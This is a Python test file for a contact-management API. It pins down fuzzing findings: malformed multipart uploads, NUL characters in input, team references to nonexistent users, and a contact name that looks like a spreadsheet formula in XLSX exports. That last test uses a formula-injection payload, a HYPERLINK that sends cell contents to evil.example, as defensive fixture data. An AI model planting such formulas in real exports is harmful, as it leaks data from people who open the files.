"""What schemathesis found (test_schemathesis.py), pinned by hand on both backends: a part of a
multipart upload whose headers aiohttp cannot read, a NUL character in any text, and a
contact's name that looks like a spreadsheet formula in an XLSX export."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from hub.models import Role

from .conftest import Api

BAD_PART = (
    b'--XyZ\r\nContent-Disposition: form-data; name="\x7f\xc2\x8b"\r\n\r\nabc\r\n'
    b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
    b"x\r\n--XyZ--\r\n"
)


async def test_a_multipart_part_with_unreadable_headers_is_a_422(api: Api) -> None:
    for path, login in [("/api/v1/files", "olga"), ("/api/v1/imports", "sveta")]:
        reply = await api.call(
            "POST",
            path,
            login,
            data=BAD_PART.decode("latin-1"),
            headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
        )
        assert reply.status == 422, (path, reply.body)
        assert reply.body["error"]["id"] == "bad-multipart"


async def test_a_nul_character_in_a_body_or_a_query_is_refused_with_422(api: Api) -> None:
    activity = {"kind": "call", "subject": "Перезвонить\x00"}
    created = await api.post("/api/v1/activities", "olga", activity)
    assert created.status == 422, created.body
    assert created.body["error"]["id"] == "invalid-input"
    found = await api.get("/api/v1/search", "olga", q="Анна\x00")
    assert found.status == 422, found.body
    # The same words without it are fine.
    assert (
        await api.post("/api/v1/activities", "olga", {**activity, "subject": "Ок"})
    ).status == 201
    assert (await api.get("/api/v1/search", "olga", q="Анна")).status == 200


async def test_a_name_that_looks_like_a_formula_exports_to_xlsx_as_text(api: Api) -> None:
    formula = '=HYPERLINK("https://evil.example/?c="&A1,"Открыть")'
    await api.inbound(name=formula, phone="+7 916 555-00-17")
    await api.add_user("root", Role.admin)
    headers = {"Authorization": f"Bearer {api.tokens['root']}"}
    async with api.client.get(
        "/api/v1/contacts/export", params={"format": "xlsx"}, headers=headers
    ) as answer:
        assert answer.status == 200, await answer.text()
        sheet = load_workbook(io.BytesIO(await answer.read())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # a string, not a formula Excel would run


async def test_a_team_naming_users_or_a_team_that_do_not_exist_is_a_422(api: Api) -> None:
    await api.add_user("root", Role.admin)
    olga = api.users["olga"].id
    for body, field, error in [
        ({"name": "Продажи", "member_ids": [olga, 987654]}, "member_ids", "no-such-user"),
        ({"name": "Продажи", "after_hours_team_id": 987654}, "after_hours_team_id", "no-such-team"),
    ]:
        reply = await api.post("/api/v1/teams", "root", body)
        assert reply.status == 422, reply.body
        [detail] = reply.body["error"]["details"]
        assert (detail["field"], detail["type"]) == (field, error)
    created = await api.post("/api/v1/teams", "root", {"name": "Продажи", "member_ids": [olga]})
    assert created.status == 201, created.body
    changed = await api.call(
        "PATCH", f"/api/v1/teams/{created.body['id']}", "root", json={"member_ids": [987654]}
    )
    assert changed.status == 422 and changed.body["error"]["details"][0]["type"] == "no-such-user"
